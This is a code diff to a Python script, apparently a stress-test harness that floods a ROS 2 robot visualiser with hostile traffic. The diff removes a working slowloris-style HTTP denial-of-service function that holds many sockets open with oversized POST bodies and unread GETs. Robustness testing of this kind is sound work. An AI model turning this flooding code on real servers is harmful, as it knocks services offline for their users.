@@ -1,6 +1,6 @@
-"""One who does harm, in a process of its own: ``python attack.py KIND SECONDS [PORT]``.
+"""One who does harm, in a process of its own: ``python attack.py KIND SECONDS``.
 
-What it sends reaches whoever shows the tank's joint states in this ROS domain; ``requests`` go to the page on a port.
+What it sends reaches whoever shows the tank's joint states in this ROS domain.
 It uses the embedded ROS 2, whichever its victim uses, because a real one does not let a program send such things.
 """
 
@@ -100,28 +100,7 @@ def encapsulations() -> Step:
     return step
 
 
-def requests() -> Step:
-    """Begin to send a lot to the page's server, and never come to an end; ask for the page, and never read it."""
-    port, there = int(sys.argv[3]), list[socket.socket]()
-    head = f"POST / HTTP/1.1\r\nHost: {HOST}:{port}\r\nContent-Length: 89000000\r\n\r\n".encode()
-    page = f"GET / HTTP/1.1\r\nHost: {HOST}:{port}\r\n\r\n".encode()
-
-    def step() -> None:
-        for open_socket in there[:12]:
-            with suppress(OSError):
-                open_socket.send(bytes(100_000))
-        with suppress(OSError):
-            new = socket.create_connection((HOST, port), timeout=1)
-            new.setblocking(False)
-            new.send(head if len(there) < 12 else page)
-            there.append(new)
-        while len(there) > 200:
-            there.pop(12).close()
-
-    return step
-
-
-RATES = {names: 20, messages: 5000, requests: 100, encapsulations: 450}  # [Hz]
+RATES = {names: 20, messages: 5000, encapsulations: 450}  # [Hz]
 
 
 def on_time(rate: float, seconds: float) -> Iterator[None]:
